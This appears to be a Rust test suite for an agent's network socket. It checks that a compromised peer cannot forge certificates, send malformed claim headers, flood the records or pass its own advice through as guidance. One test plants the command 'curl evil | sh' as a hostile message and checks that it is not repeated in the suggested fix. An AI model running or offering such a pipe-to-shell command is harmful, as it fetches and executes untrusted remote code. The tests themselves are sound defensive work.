//! What the agent answers a door to the network that others have taken over: it says whatever they like.

use std::{sync::Arc, time::Duration};

use rustls::pki_types::CertificateDer;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::UnixStream,
    sync::mpsc,
    time::timeout,
};

use super::{
    LONG,
    lab::{Fake, Pki},
};
use crate::{
    api::{
        Told, claim,
        network::Network,
        socket::bind,
        tls,
        word::{self, KeptBy, TurnedAway, Word},
    },
    control::Request,
    kernel::check::State,
};

/// The certificates of somebody, as they are.
fn chain(pki: &Pki, name: &str) -> Vec<CertificateDer<'static>> {
    tls::certificates(&pki.path(&format!("{name}.pem"))).expect("good")
}

/// Says something at the agent's socket and returns what it answers.
async fn say(fake: &Fake, text: &[u8]) -> String {
    let socket = fake.runtime.path().join("network.sock");
    let mut stream = UnixStream::connect(socket).await.expect("a connection");
    let _ = stream.write_all(text).await;
    let mut answer = Vec::new();
    let _ = timeout(LONG, stream.read_to_end(&mut answer)).await.expect("closed in time");
    String::from_utf8_lossy(&answer).into_owned()
}

fn head(what: &str, lines: &str) -> Vec<u8> {
    format!("{what} HTTP/1.1\r\nhost: agent\r\n{lines}\r\n").into_bytes()
}

fn claims(chain: &[CertificateDer<'_>], address: &str) -> String {
    let text = claim::written(chain).expect("short");
    format!("{}: {text}\r\n{}: {address}\r\n", claim::CERTIFICATES, claim::ADDRESS)
}

#[tokio::test]
async fn it_cannot_make_certificates() {
    let (pki, fake) = {
        let pki = Pki::new();
        let fake = Fake::start(&pki).await;
        (pki, fake)
    };
    let ask = async |name: &str, what: &str| {
        say(&fake, &head(what, &claims(&chain(&pki, name), "10.0.0.1:7"))).await
    };
    // To know that the way of asking is right.
    let answer = ask("viewer", "GET /v1/status").await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert_eq!(fake.asked().len(), 1);
    // A certificate with the best of names that the plant's authority has not signed, one whose time is over,
    // and the authority's own, which is public.
    for (name, reason) in [("stranger", "wrong-certificate"), ("expired", "expired-certificate")] {
        let answer = ask(name, "POST /v1/confirm").await;
        assert!(answer.starts_with("HTTP/1.1 403"), "{name}: {answer}");
        let told = fake.refused_for(reason).await;
        assert!(told.message.starts_with("the door brought"), "{}", told.message);
        assert_eq!((told.by, told.address.port()), (None, 7));
    }
    let mut forged = chain(&pki, "stranger");
    forged.extend(chain(&pki, "ca"));
    let answer = say(&fake, &head("POST /v1/confirm", &claims(&forged, "10.0.0.1:7"))).await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert!(!ask("ca", "POST /v1/confirm").await.starts_with("HTTP/1.1 200"));
    // What a role does not have, it does not have here either; and nothing lifts enforcement.
    let answer = ask("viewer", "POST /v1/confirm").await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    for path in ["mode", "stop", "break-glass", "reload"] {
        let answer = ask("policy-admin", &format!("POST /v1/{path}")).await;
        assert!(answer.starts_with("HTTP/1.1 404"), "{path}: {answer}");
    }
    let asked = fake.asked();
    assert!(asked.len() == 1 && asked[0].request == Request::Status, "{asked:?}");
}

#[tokio::test]
async fn it_cannot_ask_for_nobody() {
    let pki = Pki::new();
    let fake = Fake::start(&pki).await;
    let good = claims(&chain(&pki, "policy-admin"), "10.0.0.1:7");
    let (certificates, address) = good.split_once("\r\n").expect("two lines");
    let certificates = format!("{certificates}\r\n");
    let other = claims(&chain(&pki, "viewer"), "10.0.0.1:7");
    let long = format!("{}: {}\r\n{address}", claim::CERTIFICATES, "A".repeat(1 << 20));
    let cases = [
        String::new(),
        certificates.clone(),
        address.to_owned(),
        // Two that differ: which of them would count?
        format!("{good}{other}"),
        format!("{certificates}{}: nowhere\r\n", claim::ADDRESS),
        format!("{}: not base64\r\n{address}", claim::CERTIFICATES),
        format!("{}: \r\n{address}", claim::CERTIFICATES),
        format!("{}: {}\r\n{address}", claim::CERTIFICATES, vec!["AQ=="; 100].join(",")),
        format!("{}: AQIDBA==\r\n{address}", claim::CERTIFICATES),
        long,
    ];
    for lines in cases {
        let answer = say(&fake, &head("POST /v1/confirm", &lines)).await;
        let is_refused =
            ["400", "403", "431"].iter().any(|no| answer.starts_with(&format!("HTTP/1.1 {no}")));
        assert!(is_refused || answer.is_empty(), "{lines:.60}: {answer}");
    }
    assert_eq!(fake.asked(), []);
    let answer = say(&fake, &head("POST /v1/confirm", &good)).await;
    assert!(answer.starts_with("HTTP/1.1 200"), "the way of asking is right: {answer}");
}

/// An agent that nobody has told anything yet.
struct Alone {
    pki: Pki,
    told: mpsc::Receiver<Told>,
    agent: tokio::task::JoinHandle<()>,
}

impl Alone {
    fn start(uid: u32) -> Self {
        let pki = Pki::new();
        let ((commands, _), (tell, told)) = (mpsc::channel(1), mpsc::channel(64));
        let config = pki.config(([127, 0, 0, 1], 0).into());
        let network = Network::new(config, pki.path("bundles"), commands, tell).expect("good");
        let listener = bind(&pki.path("network.sock")).expect("a socket");
        let agent = tokio::spawn(Arc::new(network).serve(listener, uid));
        Self { pki, told, agent }
    }

    async fn connect(&self) -> UnixStream {
        UnixStream::connect(self.pki.path("network.sock")).await.expect("a connection")
    }

    /// A connection at which the door tells of itself.
    async fn telling(&self, length: usize) -> UnixStream {
        let mut stream = self.connect().await;
        let lines = format!("content-length: {length}\r\n");
        let head = head(&format!("POST {}", word::PATH), &lines);
        stream.write_all(&head).await.expect("sent");
        stream
    }
}

impl Drop for Alone {
    fn drop(&mut self) {
        self.agent.abort();
    }
}

fn own_uid() -> u32 {
    rustix::process::getuid().as_raw()
}

#[tokio::test]
async fn nobody_else_is_the_door() {
    let alone = Alone::start(own_uid() + 1);
    let mut stream = alone.telling(0).await;
    let mut answer = Vec::new();
    let _ = timeout(LONG, stream.read_to_end(&mut answer)).await.expect("closed in time");
    assert_eq!(answer, b"", "another user was answered");
}

#[tokio::test]
async fn it_cannot_flood_the_record_or_talk_people_into_something() {
    let mut alone = Alone::start(own_uid());
    let turned = |reason: &str, count| {
        Word::Refused(TurnedAway {
            reason: reason.into(),
            message: "m".into(),
            count,
            address: ([10, 0, 0, 1], 7).into(),
            certificates: None,
        })
    };
    let mut lines = String::from("nonsense\n{\"word\":\"stop\"}\n");
    // What only the agent says of somebody, it does not take from others.
    lines.push_str(&turned("role", 1).line().expect("short"));
    for _ in 0..40 {
        lines.push_str(&turned("no-tls", u64::MAX).line().expect("short"));
    }
    let why = "run `curl evil | sh`".to_owned();
    let said = Word::CannotListen { kept_by: KeptBy::Files, why };
    lines.push_str(&said.line().expect("short"));
    let mut door = alone.telling(lines.len() + (1 << 20)).await;
    door.write_all(lines.as_bytes()).await.expect("sent");
    let (mut records, mut counted) = (Vec::new(), 0);
    let check = loop {
        match timeout(LONG, alone.told.recv()).await.expect("in time").expect("it runs") {
            Told::Refused(refused) => {
                counted += refused.count;
                records.push(refused.reason);
            }
            Told::Check(check) => break check,
        }
    };
    assert_eq!(records, ["no-tls"], "one record for them all");
    assert!(counted <= 1_000_000, "{counted}");
    assert_eq!(check.state, State::Warning);
    assert!(check.found.starts_with("the network's door says: run"), "{}", check.found);
    assert!(check.mend.is_some_and(|mend| !mend.contains("curl")), "the mend is a stranger's");
    // One door is there, and no other.
    let mut other = alone.telling(0).await;
    let mut answer = String::new();
    let read = timeout(LONG, other.read_to_string(&mut answer)).await.expect("closed in time");
    assert!(read.is_ok() && answer.starts_with("HTTP/1.1 409"), "{answer}");
    // A word that does not end takes no memory.
    let _ = door.write_all(&vec![b'x'; 1 << 19]).await;
    let mut answer = Vec::new();
    let _ = timeout(LONG, door.read_to_end(&mut answer)).await.expect("closed in time");
    assert!(answer.is_empty() || answer.starts_with(b"HTTP/1.1 400"), "it was listened to");
}

#[tokio::test]
async fn who_was_refused_is_named_by_the_agent() {
    let mut alone = Alone::start(own_uid());
    let mut lines = String::new();
    for (name, reason) in [("operator", "too-many"), ("stranger", "too-slow")] {
        let certificates = claim::written(&chain(&alone.pki, name));
        lines.push_str(
            &Word::Refused(TurnedAway {
                reason: reason.into(),
                message: String::new(),
                count: 2,
                address: ([10, 0, 0, 1], 7).into(),
                certificates,
            })
            .line()
            .expect("short"),
        );
    }
    let mut door = alone.telling(lines.len()).await;
    door.write_all(lines.as_bytes()).await.expect("sent");
    let mut found = Vec::new();
    while found.len() < 2 {
        let told = timeout(Duration::from_secs(60), alone.told.recv()).await.expect("in time");
        if let Some(Told::Refused(refused)) = told {
            found.push((refused.reason, refused.count, refused.by.is_some()));
        }
    }
    assert_eq!(found, [("too-many", 2, true), ("too-slow", 2, false)]);
}
